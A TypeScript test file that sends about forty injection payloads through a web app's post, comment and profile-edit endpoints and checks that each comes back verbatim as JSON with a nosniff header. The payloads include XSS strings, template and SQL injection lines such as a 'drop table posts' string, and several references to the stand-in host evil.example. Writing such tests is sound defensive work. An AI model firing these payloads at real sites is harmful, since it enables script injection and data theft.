import { afterAll, beforeAll, expect, it } from 'vitest';
import type { WireComment, WirePost } from '@/shared/wire/post';
import type { WireLoggedUser } from '@/shared/wire/user';
import { createTestServer, type TestMember, type TestServer } from '../../testing/harness';

const scriptScheme = 'javascript';
const texts = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=p>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<img src="//evil.example/?',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<math><mtext></p><style><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<![CDATA[<script>alert(1)</script>]]>',
  `${scriptScheme}:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `${scriptScheme}\u200b:alert(1)`,
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<%= system("id") %>',
  '#{7*7}',
  "'; drop table posts; --",
  "' or '1'='1",
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  'x\u2028alert(1)\u2029x',
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '@import "//evil.example"',
  '<style>*{background:url(//evil.example)}</style>',
  'expression(alert(1))',
  '\u202egpj.exe\u202c a',
  '__proto__',
  'constructor',
  '𝕏𝕤𝕤 ＜script＞ ﹤script﹥',
  'a'.repeat(900),
];

let server: TestServer;
let member: TestMember;
beforeAll(async () => {
  server = await createTestServer();
  await server.reset();
  member = await server.member();
});
afterAll(() => server.close());

it('POST-01 CMT-04 SET-02 text that means something elsewhere comes back as it was written, as JSON', async () => {
  expect(texts.length).toBeGreaterThanOrEqual(40);
  for (const text of texts) {
    const post = await member.call<WirePost>('POST', `/api/post/user/${member.id}`, { post: text });
    const view = await member.call<WirePost>('GET', `/api/post/view/${post.body.id}`);
    const path = `/api/comments/user/${post.body.id}`;
    const said = await member.call<WireComment>('POST', path, { msg: text });
    const edit = { bio: text.slice(0, 500) };
    const profile = await member.call<WireLoggedUser>('PATCH', '/api/user/edit', edit);
    expect([view.body.post, said.body.msg, profile.body.bio]).toEqual([text, text, edit.bio]);
    for (const { headers } of [post, view, said, profile]) {
      expect(headers.get('content-type')).toMatch(/^application\/json/);
      expect(headers.get('x-content-type-options')).toBe('nosniff');
    }
  }
});
